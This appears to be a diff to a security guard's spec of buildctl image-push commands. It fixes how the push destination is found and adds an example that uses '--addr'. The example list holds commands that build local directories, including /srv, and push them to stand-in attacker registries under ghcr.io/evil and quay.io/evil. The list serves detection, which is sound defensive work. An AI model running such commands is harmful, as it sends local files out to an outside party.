@@ -81,8 +81,10 @@ export const builderTools: readonly PushToolSpec[] = [
       commands: [
         {
           words: ['build'],
-          // The image name sits inside the output value (`type=image,name=REF,push=true`).
-          remote: { none: true },
+          // The image name sits inside the output value (`type=image,name=REF,push=true`): its registry is
+          // the destination (found by review: with none, the destination was the first connect, BuildKit's
+          // own address with `--addr tcp://buildkitd:1234`).
+          remote: { flag: ['--output', '-o'], key: 'name' },
           requireAnyFlag: [
             { flags: ['--output', '-o'], valueContains: ['type=registry'] },
             { flags: ['--output', '-o'], valueMatches: OUTPUT_PUSH },
@@ -98,9 +100,11 @@ export const builderTools: readonly PushToolSpec[] = [
     },
     destination: 'image-ref',
     requiresClassedDestination: false,
+    builderClient: true,
     examples: {
       push: [
         'build --frontend dockerfile.v0 --local context=. --output type=image,name=ghcr.io/evil/x:1,push=true',
+        '--addr tcp://buildkitd.buildkit:1234 build --local context=. -o type=image,name=ghcr.io/evil/x,push=1',
         'build --frontend dockerfile.v0 --local context=. --output type=image,name=ghcr.io/evil/x:1,push=1',
         'build --frontend=dockerfile.v0 --local context=. -o type=registry,name=quay.io/evil/x',
         'build --frontend dockerfile.v0 --local context=/srv --export-cache type=registry,ref=ghcr.io/evil/c:1',
